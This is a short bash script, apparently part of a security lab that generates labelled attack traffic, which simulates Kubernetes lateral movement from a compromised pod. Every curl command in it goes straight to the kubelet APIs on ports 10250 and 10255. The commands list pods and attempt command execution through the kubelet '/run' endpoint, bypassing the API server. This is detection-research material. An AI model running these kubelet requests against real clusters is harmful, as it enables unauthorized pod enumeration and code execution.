#!/usr/bin/env bash
# Lateral movement: the compromised pod talks to the kubelets directly — the
# authenticated API on node-1:10250 (pods, exec attempt) and the legacy
# read-only port on node-2:10255 (pod list), bypassing the API server.
set -euo pipefail
source "$LAB_DIR/lib.sh"
lab_assert_target "$NODE1_IP" "$NODE2_IP"
ns=$(lab_pod_ns toolbox)
gt_begin kubelet-api lateral-movement curl pod:toolbox node:1 "GET https://node-1:10250/pods, POST /run/…; GET http://node-2:10255/pods"
lab_exec "$ns" timeout 10 curl -sk -o /dev/null --max-time 3 "https://$NODE1_IP:10250/pods" || true
lab_exec "$ns" timeout 10 curl -sk -o /dev/null --max-time 3 -X POST -d 'cmd=id' "https://$NODE1_IP:10250/run/shop/legacy-admin-84b6d7c9f-q2n7s/legacy" || true
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 "http://$NODE2_IP:10255/pods" || true
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 "http://$NODE2_IP:10255/runningpods/" || true
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 -X POST -d 'cmd=id' "http://$NODE2_IP:10255/run/shop/cart-5d8c7b9f6-x2x9q/cart" || true
gt_end '{"dport":10250}'
